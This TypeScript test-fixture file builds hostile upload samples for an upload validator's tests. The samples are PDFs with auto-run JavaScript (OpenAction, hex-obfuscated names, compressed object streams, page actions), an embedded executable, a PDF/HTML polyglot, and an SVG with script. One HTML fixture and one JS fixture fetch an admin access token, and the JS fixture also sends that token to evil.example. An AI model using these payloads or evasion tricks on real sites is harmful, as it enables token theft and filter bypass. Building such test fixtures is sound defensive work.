/**
 * Real bytes for the upload tests: the attacker's files of issue #8 and the good ones.
 * PDFs are built object by object (with a correct xref), so they open in a PDF reader.
 */
import zlib from 'node:zlib';
import { makePdf } from '../../src/seed/pdf';

export const validPdf = (title = 'Laporan Keuangan 2025'): Buffer => makePdf(title, ['Dokumen uji.', 'Halaman satu.']);

/** A PDF from a list of object bodies (1-based numbering, object 1 is the catalog). */
export function pdfFromObjects(objects: Array<string | Buffer>, trailerExtra = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0].length;
  objects.forEach((object, i) => {
    offsets.push(length);
    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), Buffer.isBuffer(object) ? object : Buffer.from(object, 'latin1'), Buffer.from('\nendobj\n', 'latin1')]);
    parts.push(chunk);
    length += chunk.length;
  });
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${length}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/** A stream object with its correct /Length. */
export const streamObject = (dict: string, content: string): string => `<< ${dict} /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;

const PAGE_OBJECTS = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
  streamObject('', 'BT /F1 12 Tf 56 780 Td (Halo) Tj ET'),
];

/** The classic: the document runs JavaScript when opened (/OpenAction → /S /JavaScript). */
export const pdfWithOpenActionJs = (): Buffer =>
  pdfFromObjects(['<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', ...PAGE_OBJECTS, "<< /Type /Action /S /JavaScript /JS (app.alert('PPID');) >>"]);

/** The same action with its names hex-escaped (/J#61vaScript), as obfuscators write it. */
export const pdfWithObfuscatedJs = (): Buffer =>
  pdfFromObjects(['<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', ...PAGE_OBJECTS, "<< /Type /Action /S /J#61va#53cript /J#53 (app.alert(1);) >>"]);

/** The JavaScript action hidden inside a compressed object stream (PDF 1.5+), without /Type /ObjStm. */
export function pdfWithJsInObjectStream(opts: { declareType?: boolean } = {}): Buffer {
  const inner = "<< /Type /Action /S /JavaScript /JS (app.alert('objstm');) >>";
  const header = '6 0 ';
  const data = zlib.deflateSync(Buffer.from(header + inner, 'latin1'));
  const type = opts.declareType === false ? '' : '/Type /ObjStm ';
  const objStm = Buffer.concat([
    Buffer.from(`<< ${type}/N 1 /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);
  return pdfFromObjects(['<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>', ...PAGE_OBJECTS, objStm]);
}

/** Additional actions on the page (/AA): script on page open. */
export const pdfWithAdditionalActions = (): Buffer =>
  pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O 5 0 R >> >>',
    PAGE_OBJECTS[2],
    '<< /S /JavaScript /JS 6 0 R >>',
    streamObject('', "app.alert('aa');"),
  ]);

/** An attachment (an executable inside the PDF). */
export const pdfWithEmbeddedFile = (): Buffer =>
  pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> >> >>',
    ...PAGE_OBJECTS,
    '<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>',
    streamObject('/Type /EmbeddedFile', 'MZ\x90\x00'),
  ]);

/** A PDF that only *talks* about JavaScript (in its text and a comment): accepted. */
export const pdfMentioningJavaScript = (): Buffer =>
  pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    streamObject('', '% /JavaScript in a comment\nBT 56 780 Td (Tentang /JavaScript dan /JS) Tj ET'),
  ]);

export const htmlPage = (): Buffer =>
  Buffer.from('<!DOCTYPE html>\n<html><head><title>Laporan</title></head><body><h1>Laporan</h1><script src="/uploads/x.js"></script><script>fetch("/admin/access-token",{method:"POST",credentials:"include"})</script></body></html>\n');

export const svgWithScript = (): Buffer =>
  Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n');

export const jsFile = (): Buffer => Buffer.from('fetch("/admin/access-token",{method:"POST",credentials:"include"}).then(r=>r.json()).then(d=>new Image().src="https://evil.example/?"+d.data.token);\n');

/** A Windows executable header (MZ, DOS stub, PE signature). */
export function mzExecutable(): Buffer {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}

/** A real PDF whose first KiB also holds an HTML page (a polyglot a sniffing browser renders). */
export function pdfHtmlPolyglot(): Buffer {
  const pdf = validPdf();
  const text = pdf.toString('latin1').replace('%PDF-1.4\n', '%PDF-1.4\n% <html><body><script>alert(1)</script></body></html>\n');
  return Buffer.from(text, 'latin1');
}

/** Tiny real images, made by sharp (the library Strapi's upload plugin uses). */
export async function image(format: 'png' | 'jpeg' | 'webp', size = 64): Promise<Buffer> {
  // eslint-disable-next-line @typescript-eslint/no-var-requires
  const sharp = require('sharp');
  return sharp({ create: { width: size, height: size, channels: 3, background: { r: 200, g: 30, b: 40 } } })[format]().toBuffer();
}
